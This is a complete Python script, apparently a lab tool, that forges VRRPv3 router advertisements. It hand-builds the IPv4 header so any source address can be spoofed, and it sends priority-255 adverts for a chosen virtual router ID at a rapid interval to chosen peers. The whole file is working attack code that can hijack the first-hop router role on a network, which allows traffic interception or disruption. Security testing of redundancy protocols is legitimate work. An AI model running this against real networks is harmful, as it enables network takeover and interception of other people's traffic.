"""Forged VRRPv3 adverts for the lab's security checks (IPv4, raw socket).

    vrrp_forge.py --vrid 18 --priority 255 --address 169.254.255.18 \
        --source 198.18.0.30 --to 198.18.0.11 --to 198.18.0.12 --seconds 3 --interval 0.05

Sends adverts as a VRRP router would (TTL 255, the RFC 5798 checksum over the
IPv4 pseudo-header), from --source, which may be any address: another host's
too, since the IP header is written here (needs CAP_NET_RAW). Prints one JSON
object: how many adverts went out.
"""

import argparse
import json
import socket
import struct
import time

VRRP_PROTO = 112


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(vrid, priority, interval_cs, addresses, source, destination):
    """The VRRP part of an advert (version 3, type 1) with its checksum."""
    body = b"".join(socket.inet_aton(a) for a in addresses)
    head = struct.pack("!BBBBH", 0x31, vrid, priority, len(addresses), interval_cs & 0x0FFF)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack(
        "!BBH", 0, VRRP_PROTO, len(head) + 2 + len(body))
    total = checksum(pseudo + head + b"\0\0" + body)
    return head + struct.pack("!H", total) + body


def packet(vrrp, source, destination, ident):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(vrrp), ident & 0xFFFF, 0, 255, VRRP_PROTO, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + vrrp


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--vrid", type=int, required=True)
    parser.add_argument("--priority", type=int, default=255)
    parser.add_argument("--address", action="append", required=True, help="address in the advert")
    parser.add_argument("--source", required=True)
    parser.add_argument("--to", action="append", required=True, help="destination (unicast peer or 224.0.0.18)")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--interval", type=float, default=0.05, help="seconds between adverts, also announced")
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sent, ident = 0, 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for destination in args.to:
            ident += 1
            vrrp = advert(args.vrid, args.priority, int(round(args.interval * 100)), args.address,
                          args.source, destination)
            sock.sendto(packet(vrrp, args.source, destination, ident), (destination, 0))
            sent += 1
        time.sleep(args.interval)
    print(json.dumps({"sent": sent, "source": args.source, "to": args.to, "priority": args.priority}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
